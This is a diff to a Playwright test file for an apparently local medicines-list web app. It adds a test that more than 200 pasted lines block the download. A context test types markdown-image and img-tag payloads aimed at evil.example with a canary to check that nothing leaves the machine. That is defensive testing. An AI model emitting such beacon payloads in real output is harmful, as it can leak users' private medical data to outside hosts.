@@ -96,6 +96,21 @@ def test_what_was_just_typed_is_in_the_document(visit: Visit) -> None:
     assert "blorp" in text.decode()
 
 
+def test_no_document_is_made_of_more_lines_than_can_be_read(visit: Visit) -> None:
+    """A download pressed just after too long a list was pasted gives no file: it could not hold the medicines."""
+    given: list[str] = []
+    visit.page.on("download", lambda download: given.append(download.suggested_filename))
+    words = ldn().words.page
+    visit.page.set_viewport_size({"width": 1280, "height": 3000})
+    visit.page.get_by_role("button", name=words.take_away).click()
+    expect(visit.page.get_by_role("button", name=words.download_text)).to_be_visible()
+    visit.page.get_by_role("textbox", name=ldn().about.medicines.clinician.ask).fill("oxycodone 10 mg\n" * 201)
+    visit.page.get_by_role("button", name=words.download_text).click()
+    expect(visit.page.get_by_text("201 lines of medicines")).to_be_visible()
+    visit.page.wait_for_timeout(2000)
+    assert given == []
+
+
 def test_nothing_leaves_the_machine(visit: Visit, server: Server) -> None:
     """No request goes to another host, whatever is typed, and the browser reports no breach of the policy."""
     visit.type_medicines(f"![x](https://evil.example/{CANARY}.png) <img src=https://evil.example/x> www.evil.example")
